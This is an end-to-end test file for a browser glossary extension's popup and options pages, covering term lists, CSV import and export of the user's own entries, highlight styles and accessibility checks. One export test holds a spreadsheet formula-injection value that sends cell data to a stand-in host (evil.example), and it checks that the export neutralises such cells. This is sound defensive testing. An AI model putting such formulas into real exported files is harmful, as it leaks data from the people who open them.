/**
 * Popup and options in Chromium (issue 7): on-this-page list and reveal, the site switch, the
 * user's own glossary (form and import, all or nothing), highlight style, and axe-core checks.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { safetyPages } from '../fixtures/safety-pages';
import { SEED_PAGE_TEXT_BLOCKS, seedPage } from '../fixtures/seed-page';
import { readSeed } from '../fixtures/seeds';
import { seriousViolations } from './axe';
import { glossText } from './gloss-probe';
import { type Fixture, type Harness, inPage, launch } from './harness';
import { expectedCounts, settledMarkCount } from './page-checks';
import { inCurrentTerm, shownTexts, termPoint } from './page-terms';

/** The extension API as seen from the extension's own pages. */
declare const chrome: {
  storage: {
    sync: { set(items: Record<string, unknown>): Promise<void> };
    local: { get(key: string): Promise<Record<string, unknown>> };
  };
  tabs: { create(props: { url: string; active: boolean }): Promise<{ id?: number }> };
};

const GOV = 'https://www.rijksoverheid.nl';
let harness: Harness;
let extensionPage: string;
const settle = (page: Page) => settledMarkCount(inPage(page), (ms) => page.waitForTimeout(ms));
/** The colour painted under the first shown term, as the page's highlight styles it. */
const termBackground = (page: Page) =>
  page.evaluate(() => getComputedStyle(document.body, '::highlight(begrip)').backgroundColor);

beforeAll(async () => {
  harness = await launch();
  extensionPage = `chrome-extension://${harness.extensionId}`;
  harness.serve('/brief', { body: seedPage('Artikel 100-brief', readSeed('004_58c76a8e68136705.txt')) });
  harness.serve('/eigen', { body: seedPage('Eigen term', 'Het Zwaartepuntoverleg besprak de NMI.') });
  harness.serve('/spans-end', safetyPages()['/spans-end'] as Fixture);
});
afterAll(async () => harness?.close());

describe('popup', () => {
  it('lists the terms on this page with counts; choosing one shows it in the page with its gloss', async () => {
    const page = await harness.open(`${GOV}/brief`);
    await settle(page);
    const popup = await harness.openPopupBehind(page);
    await popup.getByRole('tab', { name: /On this page/ }).click();
    const nmi = popup.locator('.page-term', { hasText: 'NMI' }).first();
    await nmi.waitFor();
    // The popup counts by entry, as the matcher does on the page's text; the page shows them all.
    const byId = await expectedCounts(inPage(page), SEED_PAGE_TEXT_BLOCKS, 'id');
    expect(byId.nmi).toBeGreaterThan(0);
    expect(await nmi.locator('.count').textContent()).toBe(String(byId.nmi));
    const total = Object.values(byId).reduce((a, b) => a + b, 0);
    expect((await shownTexts(page)).length).toBe(total);
    await harness.screenshot(popup, 'popup-on-this-page');
    expect(await seriousViolations(popup)).toEqual([]);
    await nmi.click();
    await expect.poll(() => glossText(page)).toContain('NATO Mission Iraq');
    await page.close();
  });

  it('choosing a term far down one block of 60,000 elements shows it there, with its gloss', async () => {
    const page = await harness.open(`${GOV}/spans-end`);
    await expect.poll(() => shownTexts(page), { timeout: 20_000 }).toContain('NMI');
    // The block's one OIR, at its very end, is not shown until asked for.
    expect(await shownTexts(page)).not.toContain('OIR');
    const popup = await harness.openPopupBehind(page);
    await popup.getByRole('tab', { name: /On this page/ }).click();
    const oir = popup.locator('.page-term', { hasText: 'OIR' }).first();
    await oir.click();
    await expect.poll(() => glossText(page)).toContain('Operation Inherent Resolve');
    expect(await page.evaluate(inCurrentTerm)).toBe('OIR');
    // Brought into view: the window scrolled down to the block's end.
    expect(await page.evaluate(() => window.scrollY)).toBeGreaterThan(10_000);
    await page.close();
  });

  it('switching highlighting off for the site removes the marks at once', async () => {
    const page = await harness.open(`${GOV}/brief`);
    await settle(page);
    const popup = await harness.openPopupBehind(page);
    await popup.getByRole('tab', { name: /On this page/ }).click();
    const toggle = popup.getByRole('switch');
    expect(await toggle.isChecked()).toBe(true);
    await toggle.click();
    await page.waitForFunction(() => !CSS.highlights.has('begrip'));
    await toggle.click();
    await expect.poll(() => shownTexts(page).then((t) => t.length)).toBeGreaterThan(0);
    await popup.close();
    await page.close();
  });

  it('passes axe-core in light and dark, and the entry view can be copied', async () => {
    const popup = await harness.open(`${extensionPage}/popup.html?q=red%20card`);
    await popup.locator('.result').first().waitFor();
    expect(await seriousViolations(popup)).toEqual([]);
    await popup.emulateMedia({ colorScheme: 'dark' });
    expect(await seriousViolations(popup)).toEqual([]);
    await popup.keyboard.press('Enter');
    await popup.getByRole('button', { name: 'Copy' }).waitFor();
    expect(await popup.locator('.entry-term').textContent()).toBe('Red Card Holder');
    expect(await seriousViolations(popup)).toEqual([]);
    await harness.screenshot(popup, 'popup-entry-dark');
    await popup.close();
  });
});

describe('options', () => {
  it('adds an own entry that is then marked on pages and found by the search', async () => {
    const options = await harness.open(`${extensionPage}/options.html`);
    await options.getByRole('button', { name: 'Add an entry' }).click();
    const form = options.getByRole('form', { name: 'Add an entry' });
    await form.getByLabel('Id (made from the term)').fill('zwaartepuntoverleg');
    await form.getByLabel('Dutch term').fill('Zwaartepuntoverleg');
    await form.getByLabel('Dutch definition').fill('Overleg over het zwaartepunt van de inzet.');
    await form.getByLabel('English term').fill('Focus consultation');
    await form.getByLabel('English definition').fill('Consultation on the focus of the deployment.');
    await form.getByRole('button', { name: 'Save entry' }).click();
    await options.locator('.own-list', { hasText: 'Zwaartepuntoverleg' }).waitFor();
    expect(await seriousViolations(options)).toEqual([]);
    await harness.screenshot(options, 'options');

    const page = await harness.open(`${GOV}/eigen`);
    await expect.poll(() => shownTexts(page)).toContain('Zwaartepuntoverleg');
    const own = await termPoint(page, 'Zwaartepuntoverleg');
    await page.mouse.move(own.x, own.y);
    await expect.poll(() => glossText(page)).toContain('Focus consultation');
    const popup = await harness.open(`${extensionPage}/popup.html?q=zwaartepunt`);
    // Own entries are loaded just after the popup is usable.
    await expect.poll(() => popup.locator('.result').first().textContent()).toContain('Zwaartepuntoverleg');
    for (const p of [options, page, popup]) await p.close();
  });

  it('imports nothing from a file with an invalid row, and names the row and field', async () => {
    const options = await harness.open(`${extensionPage}/options.html`);
    const before = await options.evaluate(() => chrome.storage.local.get('ownEntries'));
    const csv = [
      'id,kind,category,nl_term,nl_definition,en_term,en_definition',
      'goede-term,term,concept,Goede term,Een definitie.,Good term,A definition.',
      'slechte-term,term,weather,Slecht,Een definitie.,Bad,A definition.',
    ].join('\r\n');
    await options
      .locator('input[type="file"]')
      .setInputFiles({ name: 'eigen.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
    const alert = options.getByRole('alert');
    await alert.waitFor();
    expect(await alert.textContent()).toMatch(
      /eigen\.csv: row 3 \(slechte-term\), field "category": must be one of/,
    );
    expect(await options.evaluate(() => chrome.storage.local.get('ownEntries'))).toEqual(before);

    await options.locator('input[type="file"]').setInputFiles({
      name: 'eigen.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(csv.split('\r\n').slice(0, 2).join('\r\n')),
    });
    // A preview first: nothing is stored until the reader confirms.
    const preview = options.getByRole('region', { name: 'Import from eigen.csv' });
    await preview.waitFor();
    expect(await preview.textContent()).toContain('New entries: 1. Your entries to be replaced: 0.');
    expect(await options.evaluate(() => chrome.storage.local.get('ownEntries'))).toEqual(before);
    await preview.getByRole('button', { name: 'Import' }).click();
    await options.getByText('Imported 1 entry.').waitFor();
    // The same id again, with another definition: the preview says what it replaces (audit F13).
    await options.locator('input[type="file"]').setInputFiles({
      name: 'eigen.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(
        csv.split('\r\n').slice(0, 2).join('\r\n').replace('A definition.', 'Overwritten.'),
      ),
    });
    await preview.waitFor();
    expect(await preview.textContent()).toContain('New entries: 0. Your entries to be replaced: 1.');
    expect(await preview.locator('.before').textContent()).toContain('A definition.');
    expect(await preview.locator('.after').textContent()).toContain('Overwritten.');
    await preview.getByRole('button', { name: 'Cancel' }).click();
    const stored = (await options.evaluate(() => chrome.storage.local.get('ownEntries'))) as {
      ownEntries: { id: string; en: { definition: string } }[];
    };
    expect(stored.ownEntries.find((e) => e.id === 'goede-term')?.en.definition).toBe('A definition.');
    await options.close();
  });

  it('exports own entries as CSV with no cell a spreadsheet would run, and reads them back as typed (audit F10)', async () => {
    const options = await harness.open(`${extensionPage}/options.html`);
    const typed = {
      nl: '=HYPERLINK("https://evil.example/?"&A1,"klik") is geen formule.',
      en: '+31 70 123 4567, -2+3 and @SUM(1+1) are no formulas either.',
    };
    await options.getByRole('button', { name: 'Add an entry' }).click();
    const form = options.getByRole('form', { name: 'Add an entry' });
    await form.getByLabel('Dutch term').fill('Formuleproef');
    await form.getByLabel('Dutch definition').fill(typed.nl);
    await form.getByLabel('English term').fill('Formula test');
    await form.getByLabel('English definition').fill(typed.en);
    await form.getByRole('button', { name: 'Save entry' }).click();
    await options.locator('.own-list', { hasText: 'Formula test' }).waitFor();

    const saved = options.waitForEvent('download');
    await options.getByRole('button', { name: 'Export CSV' }).click();
    const file = await saved;
    expect(file.suggestedFilename()).toBe('begrip-own.csv');
    const csv = readFileSync((await file.path()) as string, 'utf8');
    const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
    const row = rows.find((r) => r.id === 'formuleproef');
    // Written with a leading apostrophe, as spreadsheets take a cell to be text.
    expect(row?.nl_definition).toBe(`'${typed.nl}`);
    expect(row?.en_definition).toBe(`'${typed.en}`);
    for (const cells of rows)
      for (const cell of Object.values(cells)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The file reads back as the reader typed it, apostrophes gone.
    await options
      .locator('input[type="file"]')
      .setInputFiles({ name: 'begrip-own.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
    const preview = options.getByRole('region', { name: 'Import from begrip-own.csv' });
    await preview.waitFor();
    await preview.getByRole('button', { name: 'Import' }).click();
    await options.getByText(/^Imported \d+ entr/).waitFor();
    const stored = (await options.evaluate(() => chrome.storage.local.get('ownEntries'))) as {
      ownEntries: { id: string; nl: { definition: string }; en: { definition: string } }[];
    };
    const entry = stored.ownEntries.find((e) => e.id === 'formuleproef');
    expect([entry?.nl.definition, entry?.en.definition]).toEqual([typed.nl, typed.en]);
    await options.close();
  });

  it('makes the id from the term, imports a short CSV after stating its defaults, and lists every problem of a file at once', async () => {
    const options = await harness.open(`${extensionPage}/options.html`);
    type Stored = { ownEntries?: { id: string; kind: string; category: string }[] };
    const stored = async () =>
      ((await options.evaluate(() => chrome.storage.local.get('ownEntries'))) as Stored).ownEntries ?? [];

    // (a) The id follows the Dutch term as it is typed (soft hyphen, capitals, brackets and all).
    await options.getByRole('button', { name: 'Add an entry' }).click();
    const form = options.getByRole('form', { name: 'Add an entry' });
    const id = form.getByLabel('Id (made from the term)');
    await form.getByLabel('Dutch term').pressSequentially('Wapenstilstands\u00adoverleg (WSO)');
    expect(await id.inputValue()).toBe('wapenstilstandsoverleg-wso');
    await form.getByLabel('Dutch definition').fill('Overleg over het bestand tussen partijen.');
    await form.getByLabel('English term').fill('Ceasefire consultation');
    await form.getByLabel('English definition').fill('Consultation on the truce between parties.');
    await form.getByRole('button', { name: 'Save entry' }).click();
    await options.locator('.own-list', { hasText: 'Ceasefire consultation' }).waitFor();
    expect((await stored()).map((e) => e.id)).toContain('wapenstilstandsoverleg-wso');

    // (b) A spreadsheet's three columns: the preview says the defaults before anything is saved.
    const file = options.locator('input[type="file"]');
    const short = [
      'Term,Expansion,Definition',
      'KVO,Kwartaalvoortgangsoverleg,Overleg over de voortgang per kwartaal.',
      'Inzetkader,,"Het kader voor een inzet,\nmet een regelafbreking."',
    ].join('\r\n');
    const before = await stored();
    await file.setInputFiles({ name: 'lijst.csv', mimeType: 'text/csv', buffer: Buffer.from(short) });
    const preview = options.getByRole('region', { name: 'Import from lijst.csv' });
    await preview.waitFor();
    const text = await preview.textContent();
    expect(text).toContain('New entries: 2. Your entries to be replaced: 0.');
    expect(text).toContain(
      'Read as a short CSV (Term, Expansion, Definition): the ids are made from the terms.',
    );
    expect(text).toContain('Category “Concept” for all rows');
    expect(text).toContain(
      'Kind “Acronym” where the term is in capitals and has an expansion (1), otherwise “Term” (1).',
    );
    expect(text).toContain('The definition is used for Dutch and English.');
    expect(await stored()).toEqual(before);
    await preview.getByRole('button', { name: 'Import' }).click();
    await options.getByText('Imported 2 entries.').waitFor();
    const list = options.locator('.own-list');
    await list.locator('li strong', { hasText: /^KVO$/ }).waitFor();
    await list.locator('li strong', { hasText: /^Inzetkader$/ }).waitFor();
    expect((await stored()).filter((e) => ['kvo', 'inzetkader'].includes(e.id))).toEqual([
      expect.objectContaining({ id: 'kvo', kind: 'acronym', category: 'concept' }),
      expect.objectContaining({ id: 'inzetkader', kind: 'term', category: 'concept' }),
    ]);

    // (c) Two bad rows, two bad fields in one of them, one of those an unreadable cell: all listed.
    const broken = [
      'id,kind,category,nl_term,nl_definition,en_term,en_definition,sources',
      'fout-een,term,weather,Fout een,,Wrong one,A definition.,',
      'goed,term,concept,Goed,Een definitie.,Good,A definition.,',
      'fout-twee,term,concept,Fout twee,Een definitie.,Wrong two,A definition.,[not json',
    ].join('\r\n');
    const afterImport = await stored();
    await file.setInputFiles({ name: 'fouten.csv', mimeType: 'text/csv', buffer: Buffer.from(broken) });
    const alert = options.getByRole('alert');
    await alert.waitFor();
    expect(await alert.locator('li').allTextContents()).toEqual([
      expect.stringMatching(/^fouten\.csv: row 2 \(fout-een\), field "category": must be one of/),
      'fouten.csv: row 2 (fout-een), field "nl.definition": must not be empty',
      'fouten.csv: row 4 (fout-twee), field "sources": is not valid JSON',
    ]);
    expect(await options.getByRole('region', { name: 'Import from fouten.csv' }).count()).toBe(0);
    expect(await stored()).toEqual(afterImport);
    await options.close();
  });

  it('applies the highlight style at once in open tabs', async () => {
    const page = await harness.open(`${GOV}/brief`);
    await settle(page);
    const options = await harness.open(`${extensionPage}/options.html`);
    await options.getByLabel('Light background').check();
    await expect.poll(() => termBackground(page)).not.toBe('rgba(0, 0, 0, 0)');
    await harness.screenshot(page, 'highlight-style-background');
    await options.getByLabel('Dotted underline').check();
    await expect.poll(() => termBackground(page)).toBe('rgba(0, 0, 0, 0)');
    for (const p of [options, page]) await p.close();
  });

  it('shows the interface in Dutch when asked, and back in English', async () => {
    const options = await harness.open(`${extensionPage}/options.html`);
    await options.getByLabel('Nederlands', { exact: true }).last().check();
    await options.getByRole('heading', { name: 'Instellingen van Begrip' }).waitFor();
    const popup = await harness.open(`${extensionPage}/popup.html`);
    expect(await popup.getByRole('searchbox').getAttribute('placeholder')).toBe(
      'Zoek in de woordenlijst (NL of EN)…',
    );
    expect(await popup.evaluate(() => document.documentElement.lang)).toBe('nl');
    await options.getByLabel('English', { exact: true }).last().check();
    await options.getByRole('heading', { name: 'Begrip settings' }).waitFor();
    for (const p of [options, popup]) await p.close();
  });

  it('the gloss passes axe-core (in the reader, whose gloss is the same component in an open root)', async () => {
    // On web pages the gloss's shadow root is closed, out of axe's reach as out of the page's.
    const page = await harness.open(`${extensionPage}/reader.html`);
    await page.getByRole('button', { name: 'Paste text' }).click();
    await page.getByRole('textbox', { name: 'Paste text' }).fill('De NMI en de Red Card Holder.');
    await page.getByRole('button', { name: 'Show with terms explained' }).click();
    await page.locator('.text-view begrip-mark').first().hover();
    await page.locator('begrip-tooltip .tooltip').waitFor();
    expect(await seriousViolations(page, 'begrip-tooltip')).toEqual([]);
    await page.close();
  });
});
